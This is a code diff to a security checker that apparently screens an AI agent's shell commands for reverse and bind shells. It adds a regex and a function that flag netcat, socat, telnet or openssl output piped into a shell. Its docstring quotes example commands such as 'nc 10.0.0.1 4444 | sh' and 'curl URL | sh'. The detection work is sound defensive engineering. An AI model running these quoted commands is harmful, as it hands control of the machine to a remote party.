@@ -6,7 +6,10 @@ told to run a program for the connection (a short-option cluster holding ``e`` o
 ``--exec``, ``--sh-exec``, ``--lua-exec`` and their abbreviations), ``socat`` with an
 ``EXEC:``, ``SYSTEM:`` or ``SHELL:`` address, ``socket -p PROGRAM``, ``telnetd -l
 PROGRAM`` (busybox's: a login program that is a shell asks no password), and an awk
-program that opens gawk's network files (``/inet/tcp/…``, ``/inet4/``, ``/inet6/``).
+program that opens gawk's network files (``/inet/tcp/…``, ``/inet4/``, ``/inet6/``), and a
+shell fed by a netcat, ``socat``, ``telnet`` or ``openssl s_client`` through a pipe (``nc
+10.0.0.1 4444 | sh``: each line the other end sends is a command; ``curl URL | sh`` runs
+one script and stays GK-BASH-006, REVIEW).
 **Why:** this is a reverse or a bind shell: whoever is at the other end of the connection
 runs commands on this machine. Tier 1 can see it for certain, so it goes to you and never
 rests on the reviewer's judgement (or on text in the command written to persuade it).
@@ -26,7 +29,7 @@ from gatekeeper.shell.effects import long_options
 
 TYPE_CHECKING = False  # typing.TYPE_CHECKING, without importing typing
 if TYPE_CHECKING:
-    from gatekeeper.model import Command
+    from gatekeeper.model import Command, ToolCall
 
 _NETCATS = frozenset(
     {
@@ -38,6 +41,13 @@ _NETCAT_EXEC = ("--exec", "--sh-exec", "--lua-exec")
 _AWKS = frozenset({"awk", "gawk", "nawk", "mawk"})
 _TELNETDS = frozenset({"telnetd", "in.telnetd", "utelnetd"})
 _NAMES = _NETCATS | _AWKS | _TELNETDS | {"socat", "socket"}
+_SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "fish"})
+# A network client whose output is piped (with `|` or `|&`, maybe through other stages)
+# into a shell, in the call's text.
+_CLIENT_INTO_SHELL = LazyRegex(
+    r"(?:^|[\s;&|(`'\"])(?:\S*/)?(?:nc|ncat|netcat|nc\.\w+|netcat\.\w+|nc6|pwncat|socat|telnet"
+    r"|openssl\s+s_client)\s(?:[^;&\n]|[<>]&|&>)*\|&?\s*(?:\S*/)?(?:sh|bash|dash|zsh|ksh|mksh|ash|busybox)\b"
+)
 # socat's address types that run a program: `EXEC:/bin/sh`, `system:'bash -i'`, and a
 # dual address's half after `!!` (socat 2's chains: after `|`, `%`, `^`). socat reads the
 # type case-insensitively.
@@ -46,9 +56,11 @@ _GAWK_INET = LazyRegex(r"/inet[46]?/")
 
 
 @hookimpl
-def gatekeeper_check_command(command: Command) -> Finding | None:
+def gatekeeper_check_command(command: Command, call: ToolCall) -> Finding | None:
     """A netcat, socat, socket or awk that serves a program over the network → ELEVATE."""
     name = command.name
+    if name in _SHELLS and command.stdin_piped:
+        return _fed_by_network(name, call)
     if name not in _NAMES:
         return None
     args = command.argv[1:]
@@ -69,6 +81,22 @@ def gatekeeper_check_command(command: Command) -> Finding | None:
         "GK-NET-001",
         f"`{name} … {served[:60]}` serves a program over a network connection: whoever is "
         "at the other end runs commands here",
+    )
+
+
+def _fed_by_network(name: str, call: ToolCall) -> Finding | None:
+    """A shell that reads its commands from a network client through a pipe."""
+    text = call.tool_input.get("command")
+    if not isinstance(text, str) or "|" not in text:
+        return None
+    found = _CLIENT_INTO_SHELL.search(text)
+    if found is None:
+        return None
+    return Finding(
+        Verdict.ELEVATE,
+        "GK-NET-001",
+        f"`{name}` runs the commands a network connection sends it "
+        f"(`{found.group().strip()[:60]}`): whoever is at the other end runs commands here",
     )
 
 
